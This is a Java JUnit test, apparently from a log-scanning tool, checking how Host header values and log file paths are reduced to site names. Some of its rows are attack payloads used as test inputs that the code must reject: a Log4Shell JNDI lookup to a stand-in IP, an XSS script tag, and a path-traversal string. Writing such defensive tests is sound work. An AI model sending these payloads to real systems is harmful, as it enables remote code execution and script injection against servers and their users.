package org.evident.cli.scan;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class SiteNamesTest {

  @ParameterizedTest(name = "{0} -> {1}")
  @CsvSource(delimiter = '|', value = {
      "shop.example|shop.example",
      "Shop.Example:443|shop.example",
      "shop.example.|shop.example",
      "[2001:db8::1]|[2001:db8::1]",
      "[2001:DB8::1]:8443|[2001:db8::1]", // an IPv6 literal loses its port, not its colons
      "' '|",
      // payloads sent as the Host header name no site: the log's own site counts them
      "'${jndi:ldap://203.0.113.5/a}'|",
      "'\"><script>alert(1)</script>'|",
      "shop.example/../etc|",
      "a b.example|",
      "[not-an-address]:80|",
      "_dmarc.example|_dmarc.example",
      "203.0.113.5:8080|203.0.113.5",
  })
  void aHostFieldNamesItsSite(String host, String site) {
    assertThat(SiteNames.fromHost(host)).isEqualTo(site);
  }

  @ParameterizedTest(name = "{0} -> {1}")
  @CsvSource(delimiter = '|', value = {
      "/var/log/nginx/shop.example-access.log.2.gz|shop.example",
      "/var/log/apache2/access.log|default",
      "api.example.log|api.example",
      "-|default",
  })
  void aFileNameNamesItsSite(String path, String site) {
    assertThat(SiteNames.fromFileName(path)).isEqualTo(site);
  }
}
